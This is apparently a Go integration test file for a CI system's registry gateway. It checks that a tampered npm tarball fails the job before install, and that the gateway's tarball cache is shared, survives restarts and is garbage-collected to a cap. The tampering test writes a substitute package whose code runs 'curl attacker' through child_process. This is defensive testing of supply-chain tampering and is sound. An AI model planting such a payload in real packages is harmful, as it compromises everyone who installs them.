package integration

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cleanroom-ci/cleanroom/api"
	"github.com/cleanroom-ci/cleanroom/integration/harness"
	"github.com/cleanroom-ci/cleanroom/internal/registry"
)

// The registry gateway's integrity check and its shared cache, end to end:
// a real Verdaccio, real agents, real sandboxes.

// packageTarball is an npm package tarball (package/package.json and
// package/index.js) whose index.js says body.
func packageTarball(t *testing.T, name, version, body string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	pkg, _ := json.Marshal(map[string]any{"name": name, "version": version, "main": "index.js", "license": "Apache-2.0"})
	for _, f := range []struct{ name, data string }{{"package/package.json", string(pkg)}, {"package/index.js", body}} {
		hdr := &tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.data)), Typeflag: tar.TypeReg, ModTime: time.Unix(499162500, 0)}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(f.data)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// projectWith is the hello example with one dependency, name@version, as
// its package.json and lockfile (resolved at the lab registry with
// integrity), and spec's keys on top of hello's cleanroom.yaml.
func projectWith(t *testing.T, name, version, integrity string, spec map[string]any) string {
	t.Helper()
	dir := copyExample(t, "hello")
	const project = "cleanroom-e2e-gwcache"
	deps := map[string]any{name: version}
	pkg := map[string]any{"name": project, "version": "1.0.0", "private": true, "license": "Apache-2.0", "dependencies": deps}
	lock := map[string]any{"name": project, "version": "1.0.0", "lockfileVersion": 3, "requires": true,
		"packages": map[string]any{
			"": map[string]any{"name": project, "version": "1.0.0", "license": "Apache-2.0", "dependencies": deps},
			"node_modules/" + name: map[string]any{
				"version":   version,
				"resolved":  harness.RegistryURL + name + "/-/" + registry.PackFileName(name, version),
				"integrity": integrity,
				"license":   "Apache-2.0",
			},
		}}
	for file, v := range map[string]any{"package.json": pkg, "package-lock.json": lock} {
		b, _ := json.MarshalIndent(v, "", "  ")
		if err := os.WriteFile(filepath.Join(dir, file), append(b, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	editSpec(t, dir, func(s map[string]any) {
		for k, v := range spec {
			s[k] = v
		}
	})
	return dir
}

// A tarball altered in the registry after the lockfile was made (here: its
// file in Verdaccio's storage replaced by another package's bytes) fails
// the job before npm ci runs, naming the package and the rule.
func TestGatewayAlteredTarballFailsTheJobBeforeInstall(t *testing.T) {
	e := env(t)
	agentFor(t, e, "main", harness.AgentOptions{Labels: "lane=" + laneMain})
	ctx := timeout(t, 3*time.Minute)

	name, version := "cleanroom-e2e-altered-"+randHex(4), "1.0.0"
	good := packageTarball(t, name, version, "module.exports = 'the published bytes';\n")
	src := filepath.Join(t.TempDir(), registry.PackFileName(name, version))
	if err := os.WriteFile(src, good, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := e.Registry.PublishFile(ctx, src); err != nil {
		t.Fatalf("publishing %s: %v", name, err)
	}
	// Verdaccio serves the tarball from this file: replace its bytes.
	stored := filepath.Join(e.Registry.Dir, "storage", name, registry.PackFileName(name, version))
	if b, err := os.ReadFile(stored); err != nil || !bytes.Equal(b, good) {
		t.Fatalf("the published tarball is not at %s (%v): the alteration below would prove nothing", stored, err)
	}
	evil := packageTarball(t, name, version, "require('child_process').exec('curl attacker');\n")
	if err := os.WriteFile(stored, evil, 0o644); err != nil {
		t.Fatal(err)
	}

	dir := projectWith(t, name, version, registry.Integrity(good), map[string]any{
		"labels": map[string]any{"lane": laneMain}, "build": "node -e \"require('" + name + "')\"",
	})
	id := submit(ctx, t, e, dir)
	j := waitTerminal(ctx, t, e, id, 2*time.Minute)
	log := jobLog(ctx, t, e, id)
	if j.State != api.StateFailed || !strings.Contains(j.Reason, name+"@"+version) || !strings.Contains(j.Reason, "integrity-mismatch") {
		t.Errorf("job %s: %s %s (%s), want failed naming %s@%s and integrity-mismatch; log:\n%s", id, j.State, j.FailureClass, j.Reason, name, version, log)
	}
	if strings.Contains(log, "$ npm ci") {
		t.Errorf("npm ci ran although the tarball did not match the lockfile; log:\n%s", log)
	}
	assertSandboxGone(ctx, t, e, id)
}

// verdaccioTarballGETs counts the tarball requests Verdaccio logged after
// offset bytes of its log, by URL path: its "requested" line (level info,
// pino's req serializer), which it logs once per request as it arrives
// (the http-level line that closes a request may be logged twice: at
// res.end and at the request's close).
func verdaccioTarballGETs(t *testing.T, e *harness.Env, offset int64) map[string]int {
	t.Helper()
	b, err := os.ReadFile(e.Registry.LogPath)
	if err != nil {
		t.Fatal(err)
	}
	n := map[string]int{}
	sc := bufio.NewScanner(bytes.NewReader(b[min(offset, int64(len(b))):]))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var line struct {
			Req *struct{ Method, URL string } `json:"req"`
			Msg string                        `json:"msg"`
		}
		if json.Unmarshal(sc.Bytes(), &line) != nil || line.Req == nil || !strings.Contains(line.Msg, "requested") {
			continue
		}
		if line.Req.Method == "GET" && strings.HasSuffix(line.Req.URL, ".tgz") {
			n[line.Req.URL]++
		}
	}
	return n
}

func logSize(t *testing.T, p string) int64 {
	t.Helper()
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Size()
}

// helloTarballs are the URL paths of the hello example's tarballs.
var helloTarballs = []string{"/picocolors/-/picocolors-1.1.1.tgz", "/typescript/-/typescript-5.6.3.tgz"}

// Two jobs at once on one agent with a cold cache, sharing every tarball:
// the registry serves each tarball once.
func TestGatewayConcurrentJobsFetchEachTarballOnce(t *testing.T) {
	e := env(t)
	agentFor(t, e, "gwconc", harness.AgentOptions{Labels: "lane=gwconc", Concurrency: 2})
	ctx := timeout(t, 4*time.Minute)
	off := logSize(t, e.Registry.LogPath)

	var ids []string
	for range 2 {
		dir := copyExample(t, "hello")
		editSpec(t, dir, func(s map[string]any) { s["labels"] = map[string]any{"lane": "gwconc"} })
		ids = append(ids, submit(ctx, t, e, dir))
	}
	var spans [][2]time.Time
	for _, id := range ids {
		j := waitTerminal(ctx, t, e, id, 3*time.Minute)
		if j.State != api.StateSucceeded {
			t.Fatalf("job %s: %s (%s); log:\n%s", id, j.State, j.Reason, jobLog(ctx, t, e, id))
		}
		if j.StartedAt != nil && j.FinishedAt != nil {
			spans = append(spans, [2]time.Time{*j.StartedAt, *j.FinishedAt})
		}
	}
	if len(spans) == 2 && (spans[0][1].Before(spans[1][0]) || spans[1][1].Before(spans[0][0])) {
		t.Logf("the two jobs did not overlap (%v): the check below only shows the cache, not the shared fetch", spans)
	}
	got := verdaccioTarballGETs(t, e, off)
	for _, p := range helloTarballs {
		if got[p] != 1 {
			t.Errorf("the registry served %s %d time(s) for two jobs, want once; all tarball GETs: %v", p, got[p], got)
		}
	}
}

// The cache survives an agent restart: a job after it is served entirely
// from the cache (every tarball event a hit) and the registry serves it no
// tarball at all.
func TestGatewayCacheSurvivesAgentRestart(t *testing.T) {
	e := env(t)
	a := agentFor(t, e, "gwrestart", harness.AgentOptions{Labels: "lane=gwrestart"})
	ctx := timeout(t, 5*time.Minute)
	run := func() string {
		t.Helper()
		dir := copyExample(t, "hello")
		editSpec(t, dir, func(s map[string]any) { s["labels"] = map[string]any{"lane": "gwrestart"} })
		id := submit(ctx, t, e, dir)
		if j := waitTerminal(ctx, t, e, id, 3*time.Minute); j.State != api.StateSucceeded {
			t.Fatalf("job %s: %s (%s); log:\n%s", id, j.State, j.Reason, jobLog(ctx, t, e, id))
		}
		return id
	}
	run() // warms the cache

	if err := a.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	waitExit(t, a.Proc, 30*time.Second)
	rctx, cancel := context.WithTimeout(ctx, 90*time.Second)
	defer cancel()
	if err := e.Restart(rctx, a); err != nil {
		t.Fatalf("restarting the agent: %v", err)
	}
	off := logSize(t, e.Registry.LogPath)
	id := run()
	if got := verdaccioTarballGETs(t, e, off); len(got) > 0 {
		t.Errorf("after the restart the registry served tarballs %v, want none (all from the cache)", got)
	}
	raw, evs := egress(ctx, t, e, "--job", id, "--proto", "http")
	tarballs := 0
	for _, ev := range evs {
		if ev.Verdict == api.VerdictAllow && strings.HasSuffix(ev.Path, ".tgz") {
			tarballs++
			if ev.Cache != "hit" {
				t.Errorf("tarball %s@%s after the restart: cache %q, want hit", ev.Package, ev.Version, ev.Cache)
			}
		}
	}
	if tarballs < len(helloTarballs) {
		t.Errorf("%d tarball event(s) after the restart, want at least %d:\n%s", tarballs, len(helloTarballs), raw)
	}
}

// `cleanroom gc` collects a gateway cache down to its cap, least recently
// used first (on a copy of a warm agent's cache: the agent keeps its own).
func TestGatewayCacheGCEvictsToTheCap(t *testing.T) {
	e := env(t)
	a := agentFor(t, e, "gwrestart", harness.AgentOptions{Labels: "lane=gwrestart"})
	ctx := timeout(t, 4*time.Minute)
	dir := copyExample(t, "hello")
	editSpec(t, dir, func(s map[string]any) { s["labels"] = map[string]any{"lane": "gwrestart"} })
	id := submit(ctx, t, e, dir)
	if j := waitTerminal(ctx, t, e, id, 3*time.Minute); j.State != api.StateSucceeded {
		t.Fatalf("job %s: %s (%s)", id, j.State, j.Reason)
	}

	cache := filepath.Join(t.TempDir(), "cache")
	if err := os.CopyFS(cache, os.DirFS(filepath.Join(a.DataDir(), "gateway-cache"))); err != nil {
		t.Fatal(err)
	}
	tarballs := func() (sizes map[string]int64, total int64) {
		sizes = map[string]int64{}
		_ = filepath.WalkDir(filepath.Join(cache, "sha512"), func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				fi, _ := d.Info()
				sizes[d.Name()], total = fi.Size(), total+fi.Size()
			}
			return err
		})
		return sizes, total
	}
	before, total := tarballs()
	if len(before) < len(helloTarballs) {
		t.Fatalf("the agent's cache holds %d tarball(s), want at least %d", len(before), len(helloTarballs))
	}
	// The smallest tarball was used last: the others go first.
	var smallest string
	for k, n := range before {
		if smallest == "" || n < before[smallest] {
			smallest = k
		}
	}
	now := time.Now()
	for k := range before {
		at := now.Add(-time.Hour)
		if k == smallest {
			at = now
		}
		if err := os.Chtimes(filepath.Join(cache, "sha512", k[:2], k), at, at); err != nil {
			t.Fatal(err)
		}
	}
	capBytes := before[smallest]
	empty := t.TempDir()
	out := cli(ctx, t, e, "gc", "--gateway-cache", cache, "--gateway-cache-max", fmt.Sprint(capBytes),
		"--agent", "cleanroom-e2e-nobody", "--state-dir", empty, "--net-state-dir", empty)
	after, size := tarballs()
	if size > capBytes || len(after) != 1 || after[smallest] == 0 {
		t.Errorf("after gc with a cap of %d bytes: %d tarball(s), %d bytes (%v), want only the most recently used %s; before: %d bytes %v; gc said:\n%s",
			capBytes, len(after), size, after, smallest[:12], total, before, out)
	}
	if !strings.Contains(out, fmt.Sprintf("removed %d file(s)", len(before)-1)) || !strings.Contains(out, "kept 1 tarball(s)") {
		t.Errorf("gc's report does not say what it removed and kept:\n%s", out)
	}
}
